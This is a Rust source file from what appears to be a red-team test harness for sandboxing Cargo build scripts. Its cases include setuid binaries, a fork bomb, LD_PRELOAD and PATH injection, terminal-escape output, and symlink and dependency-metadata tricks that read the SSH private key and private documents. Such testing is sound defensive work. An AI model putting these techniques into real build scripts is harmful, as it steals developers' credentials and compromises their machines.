//! Attacks that take a build script of their own: what they do decides about the whole run.

use std::env;
use std::fs;
use std::io::Write;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::process::Command;

use crate::attacks;
use crate::plan::Plan;
use crate::runner::{self, failed, Outcome};
use crate::sys;

pub fn run(plan: &Plan) {
    let id: &str = &plan.package;
    match id {
        // 69: a setuid program for whoever finds it.
        "setuid-bit" => wrote(plan, |plan| {
            let path = plan.out("program");
            fs::copy("/usr/bin/true", &path)?;
            fs::set_permissions(&path, fs::Permissions::from_mode(0o4755))?;
            Ok(String::new())
        }),
        // 54: a program that cannot be read, so that no recorder sees what it opens.
        "exec-only" => wrote(plan, |plan| {
            let program = plan.get("exec-only");
            let ended = Command::new(program).status()?;
            if ended.success() { Ok(String::new()) } else { Err(failed("ended badly")) }
        }),
        // 63: deeper than any path can name.
        "deep-folder" => wrote(plan, |plan| {
            env::set_current_dir(plan.out(""))?;
            let name = "d".repeat(200);
            for _ in 0..300 {
                fs::create_dir(&name)?;
                env::set_current_dir(&name)?;
            }
            fs::write("bottom", "x")?;
            Ok(String::new())
        }),
        // 66: more processes than any build needs; all of them wait for a pipe to be closed.
        "fork-bomb" => wrote(plan, |plan| {
            let wanted = plan.number("processes");
            let mut ends = [0; 2];
            sys::done(unsafe { sys::pipe(ends.as_mut_ptr()) })?;
            for _ in 0..wanted {
                if sys::done(unsafe { sys::fork() })? == 0 {
                    let mut byte = [0u8; 1];
                    unsafe {
                        sys::close(ends[1]);
                        sys::read(ends[0], byte.as_mut_ptr().cast(), 1);
                        sys::_exit(0)
                    }
                }
            }
            Ok(wanted.to_string())
        }),
        // 60: a title for the terminal, and text that runs backwards.
        "escapes" => {
            let text = "\u{1b}]0;REDTEAM-TITLE\u{7}\u{1b}[31mred\u{2066}txet";
            println!("cargo::warning={text}");
            eprintln!("{text}");
            wrote(plan, |_| Ok(String::new()));
            std::process::exit(plan.number("fails") as i32); // So that Cargo shows what it said.
        }
        // 78: what rustc, the linker and Cargo do for it.
        "env-preload" => {
            let library = plan.get("preload");
            println!("cargo::rustc-env=LD_PRELOAD={library}");
        }
        "env-path" => println!("cargo::rustc-env=PATH={}:{}", plan.get("tools"), path()),
        "link-arg" => println!("cargo::rustc-link-arg=-B{}/", plan.get("tools")),
        "link-search" => {
            println!("cargo::rustc-link-search=native={}", plan.get("libraries"));
            println!("cargo::rustc-link-lib=dylib=redteam");
        }
        "out-dir-link" => {
            symlink(plan.home(".ssh/id_ed25519"), plan.out("generated.txt")).expect("a link");
        }
        // 79: a path for the build scripts that depend on this one.
        "lure" => println!("cargo::metadata=dir={}", plan.home(".ssh")),
        "lured" => wrote(plan, |_| {
            let folder = env::var("DEP_LURE_DIR").map_err(|_| failed("absent"))?;
            attacks::steal(&format!("{folder}/id_ed25519"))
        }),
        // 83: what another one was granted, turned into a link by somebody who may write there.
        "swapper" => {
            let path = plan.workspace("gen/table.txt");
            fs::remove_file(&path).expect("a table");
            symlink(plan.home("Documents/letter.txt"), &path).expect("a link");
            println!("cargo::metadata=swapped=1");
        }
        "swapped" => wrote(plan, |plan| attacks::steal(&plan.workspace("gen/table.txt"))),
        // 84: a version that nobody has reviewed.
        "creeping" => wrote(plan, |plan| attacks::plant(&plan.workspace("creep/made"))),
        // 80: one that asks never to be looked at again.
        "once" => {
            println!("cargo::rerun-if-changed=Cargo.toml");
            wrote(plan, |plan| attacks::steal(&plan.home("Documents/letter.txt")));
        }
        // Beside the attacks: the one whose output others are after.
        "neighbour" => {
            fs::write(plan.out("generated.rs"), "// generated\n").expect("a file");
            println!("cargo::metadata=out={}", plan.out_dir.display());
        }
        _ => panic!("nothing is planned for {id}"),
    }
    let _ = std::io::stdout().flush();
}

fn wrote(plan: &Plan, attack: fn(&Plan) -> Outcome) {
    let said = runner::apart(plan, attack);
    fs::write(plan.out("outcomes"), format!("{}\t{said}\n", plan.package)).expect("outcomes");
}

fn path() -> String {
    env::var("PATH").unwrap_or_default()
}
